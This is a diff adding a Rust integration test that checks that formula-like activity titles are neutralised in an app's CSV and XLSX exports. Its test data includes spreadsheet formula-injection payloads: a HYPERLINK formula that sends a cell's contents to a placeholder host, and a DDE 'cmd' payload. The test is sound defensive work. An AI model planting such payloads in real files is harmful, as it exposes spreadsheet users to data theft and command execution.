@@ -379,3 +379,70 @@ async fn the_running_totals_follow_edits_moves_deletes_and_late_stale_edits() {
         .unwrap();
     assert_eq!(record_3["people_served"]["value"], 44);
 }
+
+#[tokio::test]
+async fn a_title_that_looks_like_a_formula_is_shown_and_never_run_in_either_export() {
+    let app = spawn_app().await;
+    let formulas = [
+        r#"=HYPERLINK("http://example.invalid/?"&A2,"y")"#,
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ];
+    let rows: Vec<(u64, Value)> = formulas
+        .iter()
+        .enumerate()
+        .map(|(i, title)| {
+            let mut row = activity("st-xianfeng", "health_clinic", "2026-10-03", 1, title);
+            row["organising_group"]["value"] = json!("=1+1");
+            (i as u64 + 1, row)
+        })
+        .collect();
+    app.push_as(&app.admin_token, &push_body(Uuid::now_v7(), &rows))
+        .await;
+
+    let bytes = admin_get(&app, "/api/admin/export/activities.csv")
+        .await
+        .bytes()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let mut titles: Vec<String> = Vec::new();
+    for row in reader.records().map(Result::unwrap) {
+        titles.push(row[2].to_owned());
+        assert_eq!(&row[7], "'=1+1");
+        assert_eq!(
+            &row[0], "2026-10-03",
+            "the server's own cells are untouched"
+        );
+    }
+    titles.sort();
+    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
+    expected.sort();
+    assert_eq!(titles, expected);
+
+    // The XLSX holds them as text cells, not formulas, exactly as typed.
+    let bytes = admin_get(&app, "/api/admin/export/activities.xlsx")
+        .await
+        .bytes()
+        .await
+        .unwrap();
+    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
+    let formulas_in_sheet = workbook.worksheet_formula("活动").unwrap();
+    assert!(
+        formulas_in_sheet.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no cell of the sheet is a formula"
+    );
+    let sheet = workbook.worksheet_range("活动").unwrap();
+    let mut titles: Vec<String> = (1..sheet.height())
+        .map(|r| match sheet.get((r, 2)) {
+            Some(Data::String(text)) => text.clone(),
+            other => panic!("not a text cell: {other:?}"),
+        })
+        .collect();
+    titles.sort();
+    let mut typed: Vec<String> = formulas.iter().map(|f| (*f).to_owned()).collect();
+    typed.sort();
+    assert_eq!(titles, typed);
+}
